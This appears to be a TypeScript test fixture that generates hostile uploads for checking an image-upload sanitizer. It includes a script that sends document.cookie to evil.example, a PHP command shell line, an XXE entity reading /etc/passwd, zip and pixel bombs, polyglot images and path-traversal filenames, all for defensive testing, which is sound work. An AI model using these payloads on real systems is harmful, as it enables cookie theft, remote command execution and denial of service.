import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** File an attacker might send to harm us, others or themselves. */
export type HostileFile = {
  readonly name: string;
  readonly bytes: Buffer;
  /** Refused, or re-encoded; where decoders may differ, either is right. */
  readonly fate: 'refused' | 'drawn' | 'either';
  /** Bytes that must not survive; the whole file if not set. */
  readonly payload?: Buffer;
  readonly filename?: string;
  readonly type?: string;
};

const SCRIPT = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script><?php system($_GET["c"]); ?>');
const HTML = Buffer.from(`<!doctype html><html><body onload="alert(1)">${SCRIPT}</body></html>`);
const SVG = (inside: string, before = '') =>
  Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${inside}</svg>`);
const u32 = (value: number) => Buffer.from(Uint32Array.of(value).buffer).reverse();
const text = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));

/** Creates random pixels, so that no encoder produces the same bytes for two pictures. */
const noise = (width = 96, height = 64, channels: 3 | 4 = 3) =>
  sharp({
    create: { width, height, channels, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  });
const flat = (side: number) => sharp({ create: { width: side, height: side, channels: 3, background: '#888' } });
const jpeg = () => noise().jpeg().toBuffer();
const png = () => noise().png().toBuffer();

const pngChunk = (kind: string, data: Buffer) => {
  const body = text(kind, data);
  return Buffer.concat([u32(data.length), body, u32(crc32(body))]);
};
const PNG_START = Buffer.from('89504e470d0a1a0a', 'hex');
const AFTER_HEADER = 33;
const withChunk = (file: Buffer, kind: string, data: Buffer) =>
  Buffer.concat([file.subarray(0, AFTER_HEADER), pngChunk(kind, data), file.subarray(AFTER_HEADER)]);
const pngOf = (width: number, height: number, pixels: Buffer) => {
  const header = Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])]);
  const size = pngChunk('IHDR', header);
  const data = pngChunk('IDAT', pixels);
  const end = pngChunk('IEND', Buffer.alloc(0));
  return Buffer.concat([PNG_START, size, data, end]);
};

const jpegSegment = (marker: number, data: Buffer) =>
  Buffer.concat([Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]), data]);
const withSegment = (file: Buffer, marker: number, data: Buffer) =>
  Buffer.concat([file.subarray(0, 2), jpegSegment(marker, data), file.subarray(2)]);
/** Patches the picture size in the frame header. */
const withJpegSize = (file: Buffer, side: number) => {
  const copy = Buffer.from(file);
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(side, frame + 5);
  copy.writeUInt16BE(side, frame + 7);
  return copy;
};

/** Builds one deflated entry with a minimal directory: enough for every unpacker. */
const zipOf = (name: string, plain: Buffer) => {
  const packed = deflateRawSync(plain);
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(8, 4);
  fields.writeUInt32LE(crc32(plain), 10);
  fields.writeUInt32LE(packed.length, 14);
  fields.writeUInt32LE(plain.length, 18);
  fields.writeUInt16LE(name.length, 22);
  const local = text(Buffer.from('504b0304', 'hex'), fields, name, packed);
  const central = text(Buffer.from('504b01021400', 'hex'), fields, Buffer.alloc(14), name);
  const end = Buffer.alloc(22);
  end.write('504b0506', 'hex');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
};

const u16le = (value: number) => Buffer.from([value & 255, value >> 8]);
/** Builds a GIF with two colours, one pixel of data, and any claimed size for the canvas and its only frame. */
const gifOf = (canvas: number, frame: number) => {
  const colours = Buffer.from('800000000000ffffff', 'hex');
  const start = text('GIF89a', u16le(canvas), u16le(canvas), colours, Buffer.from('2c00000000', 'hex'));
  return text(start, u16le(frame), u16le(frame), Buffer.from('0002024401003b', 'hex'));
};

/** Repeats the last scan: each makes a decoder process all pixels again. */
const withScans = (file: Buffer, count: number) => {
  const scan = file.lastIndexOf(Buffer.from([0xff, 0xda]));
  const end = file.length - 2;
  const scans = Array.from({ length: count }, () => file.subarray(scan, end));
  return Buffer.concat([file.subarray(0, end), ...scans, file.subarray(end)]);
};

const patched = (file: Buffer, find: string, write: (copy: Buffer, at: number) => void) => {
  const copy = Buffer.from(file);
  write(copy, copy.indexOf(find));
  return copy;
};
const starting = (hex: string, content: string | Buffer = '') =>
  text(Buffer.from(hex, 'hex'), content, Buffer.alloc(600, 1));

const refused = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, fate: 'refused' });
const drawn = (name: string, bytes: Buffer, payload?: Buffer): HostileFile => ({
  name,
  bytes,
  fate: 'drawn',
  ...(payload && { payload }),
});
const either = (name: string, bytes: Buffer, payload?: Buffer): HostileFile => ({
  ...drawn(name, bytes, payload),
  fate: 'either',
});

const documents = (): HostileFile[] => [
  refused('svg', SVG('<rect width="64" height="64"/>')),
  refused('svg with a script', SVG(`${SCRIPT}`)),
  refused(
    'svg with an entity',
    SVG('<text>&x;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  refused('html', HTML),
  refused('plain text', Buffer.from('hello, this is no picture at all')),
  refused('pdf', text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF')),
  refused('zip', zipOf('x.html', HTML)),
  refused('zip bomb', zipOf('zero', Buffer.alloc(40_000_000))),
  refused('office bomb', zipOf('[Content_Types].xml', Buffer.alloc(40_000_000, ' '))),
  refused('nothing', Buffer.alloc(0)),
  refused('one byte', Buffer.from([0xff])),
];

const wrongTypes = async (): Promise<HostileFile[]> => [
  refused('program', starting('4d5a90000300000004000000ffff0000', SCRIPT)),
  refused('elf', starting('7f454c4602010100', SCRIPT)),
  refused('mp4', starting('000000186674797069736f6d0000020069736f6d69736f32')),
  refused('webm', starting('1a45dfa39f4286810142f7810142f2810442f381084282847765626d')),
  refused('mp3', starting('49443303000000000021')),
  refused('ico', starting('00000100010010100000010020006804000016000000')),
  refused('bmp', starting('424d36030000000000003600000028000000100000001000000001001800')),
  refused('tiff', await noise().tiff().toBuffer()),
  refused('psd', starting('38425053000100000000000000030000004000000040000800030000')),
  refused('heic', starting('0000001c667479706865696300000000686569636d696631')),
];

const polyglots = async (): Promise<HostileFile[]> => [
  refused('html behind png magic', text(PNG_START, HTML)),
  refused('svg behind jpeg magic', text(Buffer.from('ffd8ffe0', 'hex'), SVG(`${SCRIPT}`))),
  refused('script behind gif magic', text('GIF89a/*', SCRIPT, '*/=1;', SCRIPT)),
  either('gif and zip', text(await noise().gif().toBuffer(), zipOf('x.html', HTML)), HTML),
  either('jpeg and zip', text(await jpeg(), zipOf('x.class', SCRIPT))),
  either('png with html behind it', text(await png(), HTML), HTML),
  either('webp with html behind it', text(await noise().webp().toBuffer(), HTML), HTML),
  drawn('jpeg with html as comment', withSegment(await jpeg(), 0xfe, HTML), HTML),
  drawn('jpeg with php as an application segment', withSegment(await jpeg(), 0xed, SCRIPT), SCRIPT),
  drawn('png with script as text', withChunk(await png(), 'tEXt', text('Comment\0', SCRIPT)), SCRIPT),
  drawn('png with script as utf-8 text', withChunk(await png(), 'iTXt', text('XML\0\0\0\0\0', SCRIPT)), SCRIPT),
  drawn('png with a chunk of its own', withChunk(await png(), 'evIl', HTML), HTML),
];

const metadata = async (): Promise<HostileFile[]> => {
  const gps = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '52/1 31/1 0/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '13/1 24/1 0/1',
  };
  const exif = { IFD0: { Copyright: `${SCRIPT}`, Model: 'A camera with a serial number' }, IFD3: gps };
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`;
  const profile = text('icc\0\0', deflateSync(Buffer.alloc(20_000_000)));
  return [
    drawn('jpeg that says where it was taken', await noise().withExif(exif).jpeg().toBuffer(), SCRIPT),
    drawn('webp that says where it was taken', await noise().withExif(exif).webp().toBuffer(), SCRIPT),
    drawn('avif that says where it was taken', await noise().withExif(exif).avif().toBuffer(), SCRIPT),
    drawn('jpeg with xmp', await noise().withXmp(xmp).jpeg().toBuffer(), SCRIPT),
    drawn('png with a colour profile', await noise().withIccProfile('p3').png().toBuffer()),
    either('png with a broken colour profile', withChunk(await png(), 'iCCP', text('icc\0\0', SCRIPT)), SCRIPT),
    either('png with a colour profile that unpacks to 20 MB', withChunk(await png(), 'iCCP', profile), profile),
    either('png with text that unpacks to 20 MB', withChunk(await png(), 'zTXt', profile), profile),
    either(
      'jpeg with a broken colour profile',
      withSegment(await jpeg(), 0xe2, text('ICC_PROFILE\0\x01\x01', HTML)),
      HTML,
    ),
  ];
};

const bombs = async (): Promise<HostileFile[]> => [
  refused('png of 50,000 × 50,000', pngOf(50_000, 50_000, deflateSync(Buffer.alloc(20_000_000)))),
  refused('png of 16,385 × 1', pngOf(16_385, 1, deflateSync(Buffer.alloc(2_050)))),
  refused('png of 8,000 × 5,001', pngOf(8_000, 5_001, deflateSync(Buffer.alloc(1_001 * 5_001)))),
  refused('png that claims no height', pngOf(64, 0, deflateSync(Buffer.alloc(9)))),
  refused('jpeg of 65,000 × 65,000', withJpegSize(await jpeg(), 65_000)),
  either('gif of 65,535 × 65,535', gifOf(65_535, 1)),
  refused('gif with a frame of 60,000 × 60,000', gifOf(1, 60_000)),
  refused(
    'avif of 60,000 × 60,000',
    patched(await noise().avif().toBuffer(), 'ispe', (copy, at) => {
      copy.writeUInt32BE(60_000, at + 8);
      copy.writeUInt32BE(60_000, at + 12);
    }),
  ),
  refused(
    'webp of 16,777,216 × 256',
    patched(await noise(96, 64, 4).webp().withMetadata().toBuffer(), 'VP8X', (copy, at) => {
      copy.writeUIntLE(0xffffff, at + 12, 3);
      copy.writeUIntLE(0xff, at + 15, 3);
    }),
  ),
  either('jpeg of 500 scans', withScans(await flat(4_000).jpeg({ progressive: true }).toBuffer(), 500)),
  refused('nine megabytes', text(await jpeg(), Buffer.alloc(9 * 1024 * 1024, 'x'))),
];

const halves = async (): Promise<HostileFile[]> => {
  const whole = [await jpeg(), await png(), await noise().webp().toBuffer(), await noise().avif().toBuffer()];
  return ['jpeg', 'png', 'webp', 'avif'].map((name, index) => {
    const file = whole[index] ?? Buffer.alloc(0);
    return refused(`the first half of a file: ${name}`, file.subarray(0, file.length >> 1));
  });
};

/** Creates two frames, one below the other. */
const frames = async () =>
  sharp(await noise(48, 96).raw().toBuffer(), { raw: { width: 48, height: 96, channels: 3, pageHeight: 48 } });

const strange = async (): Promise<HostileFile[]> => [
  drawn('gif of one pixel', gifOf(1, 1)),
  drawn('animated gif', await (await frames()).gif().toBuffer()),
  drawn('animated webp', await (await frames()).webp().toBuffer()),
  drawn('cmyk jpeg', await noise().toColourspace('cmyk').jpeg().toBuffer()),
  drawn('16-bit png', await noise().toColourspace('rgb16').png().toBuffer()),
  drawn('grey png of one bit', pngOf(64, 64, deflateSync(Buffer.alloc(9 * 64)))),
  drawn('png of 8,000 × 5,000', pngOf(8_000, 5_000, deflateSync(Buffer.alloc(1_001 * 5_000)))),
  drawn('png of 16,384 × 1', pngOf(16_384, 1, deflateSync(Buffer.alloc(2_049)))),
  drawn('avif', await noise().avif().toBuffer()),
  drawn('jpeg of 3,000 × 100', await noise(3_000, 100).jpeg().toBuffer()),
  drawn('progressive jpeg', await noise().jpeg({ progressive: true }).toBuffer()),
];

const lies = async (): Promise<HostileFile[]> => {
  const sent = await png();
  const names = ['../../x.png', 'x.php.png', 'x.png\u0000.html', '/etc/cron.d/x', '..\\..\\x.png', 'CON', `${SCRIPT}`];
  return [
    ...names.map((filename) => ({ ...drawn(`png called ${filename.slice(0, 20)}`, sent), filename })),
    { ...refused('svg that says png', SVG(`${SCRIPT}`)), filename: 'x.png', type: 'image/png' },
    { ...drawn('png that says svg', sent), filename: 'x.svg', type: 'image/svg+xml' },
    { ...drawn('png that says html', sent), filename: 'x.html', type: 'text/html' },
  ];
};

/**
 * Creates the files in code rather than storing them: a reader sees what each is, and no scanner flags the repository.
 */
export async function makeHostileFiles(): Promise<readonly HostileFile[]> {
  const groups = [documents(), wrongTypes(), polyglots(), metadata(), bombs(), halves(), strange(), lies()];
  return (await Promise.all(groups)).flat();
}
